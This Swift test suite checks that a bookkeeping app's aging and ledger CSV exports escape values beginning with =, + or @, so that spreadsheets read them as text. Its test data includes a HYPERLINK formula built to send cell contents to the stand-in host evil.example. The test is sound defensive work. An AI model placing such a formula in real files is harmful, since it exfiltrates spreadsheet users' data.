import Bookkeeping
import Interchange
import Receivables
import Testing

/// Exports a spreadsheet opens: a customer's name, an invoice number or a receipt reference typed to
/// run as a formula arrives as text.
@Suite struct ExportTests {
    @Test func agingAndLedgerCSVCannotCarryAFormula() async throws {
        let book = try TestBook()
        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        _ = try await book.billing.addCustomer(Customer(code: Customer.Code("K1"), name: name, terms: .net(30)))
        try await book.invoice("+INV1", "K1", "2026-01-01", "10")
        try await book.receipt("@R1", "K1", "2026-01-05", "4", .oldestDueFirst)
        let aging = AgingFormats.csv(try await book.aging("2026-06-30"))
        #expect(aging.contains("\"'=HYPERLINK("))
        #expect(!aging.contains(",=HYPERLINK") && !aging.contains(",\"=HYPERLINK"))
        let ledger = LedgerFormats.csv(try await book.reports.ledger(customer: Customer.Code("K1"), from: nil, to: TestBook.day("2026-06-30")))
        #expect(ledger.contains(",'+INV1,") && ledger.contains(",'@R1,"))
        // Amounts stay numbers: the receipt's line credits 4.00 and leaves 6.00.
        #expect(ledger.contains(",4.00,6.00\r\n"))
    }
}
